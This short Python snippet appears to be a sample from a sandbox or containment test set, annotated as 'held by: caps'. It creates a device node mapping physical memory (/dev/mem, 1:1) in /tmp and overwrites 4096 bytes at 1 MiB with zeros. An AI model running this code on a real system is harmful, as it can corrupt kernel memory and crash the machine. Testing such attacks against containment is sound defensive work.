# overwrite the memory of the kernel by a device node of one's own
# held by: caps
import os, stat
os.mknod("/tmp/mem", 0o600 | stat.S_IFCHR, os.makedev(1, 1))
with open("/tmp/mem", "r+b", buffering=0) as memory:
    memory.seek(1 << 20)
    memory.write(bytes(4096))
